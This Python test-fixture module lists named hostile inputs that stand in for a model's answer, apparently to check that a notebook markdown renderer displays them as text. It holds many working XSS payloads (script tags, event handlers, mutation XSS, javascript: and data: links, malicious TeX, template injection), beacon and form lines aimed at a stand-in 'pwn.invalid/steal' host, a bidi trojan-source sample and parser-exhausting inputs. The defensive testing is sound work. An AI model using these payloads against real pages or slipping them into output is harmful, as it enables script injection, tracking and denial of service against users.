"""Hostile model output: XSS and rendering attacks, each a named case a test serves as an answer.

Every payload that would run calls a recorder named after its case, so execution is detectable:
``window.__pwned('case-name')`` (a page hook records it) or ``alert('case-name')`` (a dialog).
Elements a payload would create carry ``pwn-`` in their id or class. ``marker`` is text the
rendered answer must still show, as text (compared with whitespace collapsed); ``solo`` cases
are too big to share a notebook with others.

    CASES        every case, in a stable order (names unique)
    BATCHED      the cases that share one notebook per path
    SOLO         the big ones (a 1 MB line, 10,000 nested list levels, 5,000 math spans)
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

__all__ = ["BATCHED", "CASES", "PATHOLOGICAL", "SOLO", "Case", "pwn"]


@dataclass(frozen=True)
class Case:
    name: str
    text: str  # the model's whole answer
    marker: str | None = None  # must appear as visible text (whitespace collapsed)
    solo: bool = False


def pwn(name: str) -> str:
    """The recorder call a payload makes when it runs."""
    return f"window.__pwned('{name}')"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _cases() -> list[Case]:
    c: list[Case] = []

    def add(name: str, text: str, marker: str | None = None, *, solo: bool = False) -> None:
        c.append(Case(name, text, marker, solo))

    # --- raw HTML: html is off, so all of it must show as text --------------------------------
    tag = f"<script>{pwn('script-block')}</script>"
    add("script-block", f"{tag}\n\nafter the block", tag)
    tag = f"<script>{pwn('script-inline')}</script>"
    add("script-inline", f"Inline {tag} in a sentence.", tag)
    add("script-alert", "<script>alert('script-alert')</script>", "alert('script-alert')")
    tag = f'<img id="pwn-img" src=x onerror="{pwn("img-onerror")}">'
    add("img-onerror", f"Look: {tag}", tag)
    tag = f'<svg class="pwn-svg" onload="{pwn("svg-onload")}"><circle r="9"/></svg>'
    add("svg-onload", tag, tag)
    tag = (
        f'<iframe id="pwn-iframe" srcdoc="<script>parent.{pwn("iframe-srcdoc")[7:]}</script>">'
        "</iframe>"
    )
    add("iframe-srcdoc", tag, tag)
    tag = f'<a id="pwn-a" href="javascript:{pwn("raw-a-javascript")}">click me</a>'
    add("raw-a-javascript", tag, tag)
    tag = f'<details class="pwn-details" open ontoggle="{pwn("details-ontoggle")}">x</details>'
    add("details-ontoggle", tag, tag)
    # Mutation XSS: markup a sanitiser parses one way and the browser re-parses another way.
    tag = f'<math><mtext><table><mglyph><style><img src=x onerror="{pwn("mxss-math")}">'
    add("mxss-math", tag, tag)
    tag = f'<noscript><p title="</noscript><img src=x onerror={pwn("mxss-noscript")}>">'
    add("mxss-noscript", tag, tag)
    tag = f"<scr\0ipt>{pwn('null-in-tag')}</scr\0ipt>"
    add("null-in-tag", tag, f"ipt>{pwn('null-in-tag')}</scr")
    tag = (
        "<style>@import url(https://pwn.invalid/import.css); body{display:none}"
        " .jp-Notebook{background:url(https://pwn.invalid/bg.png)} .pwn-css{color:red}</style>"
    )
    add("style-tag", f"{tag}\n\nStill visible.", "<style>@import url(https://pwn.invalid/")
    tag = '<base href="https://pwn.invalid/">'
    add("base-href", f"{tag}\n\n[a link](https://example.com/ok)", tag)
    tag = f'<meta http-equiv="refresh" content="0;url=javascript:{pwn("meta-refresh")}">'
    add("meta-refresh", tag, tag)
    tag = (
        '<form id="pwn-form" action="https://pwn.invalid/steal">'
        f'<input autofocus onfocus="{pwn("form-autofocus")}" name="pwn-input"></form>'
    )
    add("form-autofocus", tag, tag)
    tag = f'<img src=x onerror="{pwn("table-cell-html")}">'
    add("table-cell-html", f"| a | {tag} |\n|---|---|\n| <script> | 2 |\n", tag)
    tag = f"<svg onload={pwn('blockquote-html')}>"
    add("blockquote-html", f"> quoted {tag}", tag)

    # --- entities that decode to tags: text, not markup -----------------------------------------
    add(
        "entity-script",
        f"&lt;script&gt;{pwn('entity-script')}&lt;/script&gt;",
        f"<script>{pwn('entity-script')}</script>",
    )
    add(
        "entity-double",
        f"&amp;lt;img src=x onerror={pwn('entity-double')}&amp;gt;",
        f"&lt;img src=x onerror={pwn('entity-double')}&gt;",
    )
    add(
        "entity-numeric",
        f"&#60;img src=x onerror=&#34;{pwn('entity-numeric')}&#34;&#62;",
        f'<img src=x onerror="{pwn("entity-numeric")}">',
    )

    # --- markdown links and images with dangerous schemes -------------------------------------
    add("md-link-javascript", f"[click me](javascript:{pwn('md-link-javascript')})", "click me")
    add("md-link-upper", f"[upper](JAVASCRIPT:{pwn('md-link-upper')})", "upper")
    add("md-link-tab", f"[tabbed](java\tscript:{pwn('md-link-tab')})", "tabbed")
    add("md-link-entity", f"[entity](&#106;avascript:{pwn('md-link-entity')})", "entity")
    add(
        "md-link-hex-entities",
        f"[hex](&#x6A;&#x61;vascript&#x3A;{pwn('md-link-hex-entities')})",
        "hex",
    )
    add(
        "md-link-angle-newline",
        f"[angle](<java\nscript:{pwn('md-link-angle-newline')}>)",
        "angle",
    )
    data_html = _b64(f"<script>opener.{pwn('md-link-data')[7:]}</script>")
    add("md-link-data", f"[data](data:text/html;base64,{data_html})", "data:text/html;base64,")
    add("md-link-vbscript", '[vb](vbscript:msgbox("md-link-vbscript"))', "vbscript:msgbox")
    add("md-link-file", "[file](file:///etc/passwd)", "file:///etc/passwd")
    add("md-link-relative", "[logout](/logout) [api](/api/contents)", "/api/contents")
    add(
        "md-reference-javascript",
        f"See [ref][r].\n\n[r]: javascript:{pwn('md-reference-javascript')}\n",
        "[ref][r]",
    )
    add(
        "autolink-javascript",
        f"<javascript:{pwn('autolink-javascript')}>",
        f"<javascript:{pwn('autolink-javascript')}>",
    )
    add(
        "md-image-javascript",
        f"![image alt js](javascript:{pwn('md-image-javascript')})",
        "image alt js",
    )
    svg = _b64(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{pwn("md-image-data")}"/>')
    add("md-image-data", f"![image alt data](data:image/svg+xml;base64,{svg})", "image alt data")
    # Images never load: a tracking pixel would tell a third party the answer was read.
    add("md-image-beacon", "![beacon](https://pwn.invalid/beacon.png?read=1)", "beacon")
    tag = '<link rel="prefetch" href="https://pwn.invalid/prefetch"><video poster=//pwn.invalid/p>'
    add("link-prefetch", tag, tag)
    add(
        "md-image-onerror-url",
        f'![alt onerror](https://example.com/x.png" onerror="{pwn("md-image-onerror-url")})',
        "alt onerror",
    )
    add(
        "link-quote-breakout",
        f'[quoted](https://example.com/" onclick="{pwn("link-quote-breakout")}" x=")',
        "quoted",
    )
    add(
        "link-title-breakout",
        f'[titled](https://example.com "t\\" onmouseover=\\"{pwn("link-title-breakout")}'
        '\\" x=\\"")',
        "titled",
    )
    add(
        "link-in-image-alt",
        f"![[inner](javascript:{pwn('link-in-image-alt')})](https://example.com/i.png)",
        "inner",
    )
    add(
        "emphasis-breakout",
        f'[*a" onmouseover="{pwn("emphasis-breakout")}" b="*](https://example.com/*"x*)',
        "onmouseover=",
    )

    # --- code fences ----------------------------------------------------------------------------
    add(
        "fence-info-onerror",
        f'```js" onerror="{pwn("fence-info-onerror")}" x="\nlet fenceBody = 1;\n```\n',
        "let fenceBody = 1;",
    )
    add(
        "fence-info-tag",
        f"~~~<img src=x onerror={pwn('fence-info-tag')}>\ncode in a tilde fence\n~~~\n",
        "code in a tilde fence",
    )
    tag = f"<script>{pwn('unclosed-fence')}</script>"
    add(
        "unclosed-fence",
        f'Intro.\n\n```html\n{tag}\n<img src=x onerror="{pwn("unclosed-fence")}">\n',
        tag,
    )

    # --- invisible and bidi characters ----------------------------------------------------------
    add("zero-width-link", "[safe](https://exa\u200bmple.com)", "safe")
    add("rlo-link-text", "[\u202egnp.exe](https://example.com/a)", "\ufffdgnp.exe")
    add(
        "zero-width-autolink",
        "<https://exa\u200bmple.com/\u202egnp.exe>",
        "https://exa\ufffdmple.com/\ufffdgnp.exe",
    )
    add(
        "bidi-trojan-code",
        "```python\nif access_level != 'user\u202e \u2066# check if admin\u2069 \u2066':\n```\n",
        "\ufffd",
    )

    # --- math: dangerous TeX is shown as code, never typeset ------------------------------------
    tex = f"\\href{{javascript:{pwn('math-href')}}}{{x}}"
    add("math-href", f"Math ${tex}$ here.", tex)
    tex = "\\require{action}\\toggle{a}{b}\\endtoggle"
    add("math-require", f"$$\n{tex}\n$$", tex)
    tex = "\\style{position:fixed;top:0;left:0;width:100vw;height:100vh;background:red}{x}"
    add("math-style", f"\\({tex}\\)", tex)
    tex = "\\cssId{pwn-math}{x}\\class{pwn-math}{y}"
    add("math-cssid", f"\\[{tex}\\]", tex)
    tex = '\\unicode{<img src=x onerror="' + pwn("math-unicode") + '">}'
    add("math-unicode", f"${tex}$", "\\unicode{")
    # MathJax fails on this nesting ("Math input error") and takes about a minute of the page's
    # main thread for a 120 kB display block: both are shown as source instead.
    add("math-frac-5000", "$$" + "\\frac{1}{" * 5000 + "x" + "}" * 5000 + "$$", "\\frac{1}{" * 3)
    add("math-display-huge", "$$" + "x^{2}+" * 20_000 + "y$$\n\nafter", "x^{2}+" * 3)
    add("math-frac-inline", "$" + "\\frac{1}{" * 5000 + "x" + "}" * 5000 + "$ after", "after")
    # Each span costs MathJax ~1 ms of the page's main thread (5,000: ~6 s frozen in JupyterLab),
    # so an answer's math past its budget is shown as source. Paragraphs of 50 spans: one long
    # paragraph would already be plain text by the inline budget. On its own, to time it.
    rows = (" ".join(f"$x_{{{i}}}^2$" for i in range(j, j + 50)) for j in range(0, 5000, 50))
    add("math-flood", "\n\n".join(rows) + "\n\nafter the flood", "after the flood", solo=True)

    # --- text that looks like templates ---------------------------------------------------------
    body = f'{{{{constructor.constructor("{pwn("template-curly")}")()}}}}'
    add("template-curly", body, body)
    # One "$" per paragraph: two in one would pair up as (harmless) math, as in Pandoc.
    body = f"${{{pwn('template-dollar')}}} in a template.\n\n`${{alert('template-dollar')}}`"
    add("template-dollar", body, f"${{{pwn('template-dollar')}}} in a template.")

    # --- size and depth (run on their own) ------------------------------------------------------
    # Long words between the payloads keep it to ~30,000 tokens, so it streams in seconds.
    words = ("lorem" + "ipsum" * 11 + " ") * 50
    line = f"{words}<img src=x onerror={pwn('one-mb-line')}> [x](javascript:{pwn('one-mb-line')}) "
    one_mb = (line * (1_000_000 // len(line) + 1))[:1_000_000]
    add("one-mb-line", one_mb + "\n\nafter the megabyte", "after the megabyte", solo=True)
    add(
        "nested-10000",
        "- " * 10_000 + f"<img src=x onerror={pwn('nested-10000')}>deep\n\nafter the list",
        "after the list",
        solo=True,
    )
    return c


CASES: list[Case] = _cases()
BATCHED: list[Case] = [c for c in CASES if not c.solo]
SOLO: list[Case] = [c for c in CASES if c.solo]

# Markdown that makes a careless parser slow or deep (no payloads): each must still render, and
# show the text after it. Their cost is measured in bench/bench_hostile.py.
MEGABYTE = 1_000_000
PATHOLOGICAL: dict[str, str] = dict(
    [
        ("10,000 nested list levels", "- " * 10_000 + "deep\n\nafter the list"),
        ("10,000 nested quotes", "> " * 10_000 + "deep\n\nafter the list"),
        ("10,000 nested ordered lists", "1. " * 10_000 + "deep\n\nafter the list"),
        (
            "nested by indentation",
            "".join("  " * i + "- x\n" for i in range(700)) + "\nafter the list",
        ),
        ("1 MB line of text", "a" * MEGABYTE + "\n\nafter the list"),
        ("1 MB line of emphasis", "*a_" * (MEGABYTE // 3) + "\n\nafter the list"),
        ("1 MB line of brackets", "[a](" * (MEGABYTE // 4) + "\n\nafter the list"),
        ("1 MB line of dollars", "$a " * (MEGABYTE // 3) + "\n\nafter the list"),
        (
            "1 MB line of html",
            "<img src=x onerror=alert(1)>" * (MEGABYTE // 28) + "\n\nafter the list",
        ),
        ("1 MB line of pipes", "|" * MEGABYTE + "\n|-|\n\nafter the list"),
        ("wide table", "|a" * 50_000 + "|\n" + "|-" * 50_000 + "|\n\nafter the list"),
        ("bracket paragraphs", ("[a" * 500 + "\n\n") * 200 + "after the list"),
        ("unclosed math lines", "\\[\n" * 20_000 + "\nafter the list"),
        ("dollar paragraphs", ("$a " * 3_000 + "\n\n") * 10 + "after the list"),
        ("1 MB code line", "```python\n" + "x = '" * (MEGABYTE // 5) + "\n```\n\nafter the list"),
    ]
)
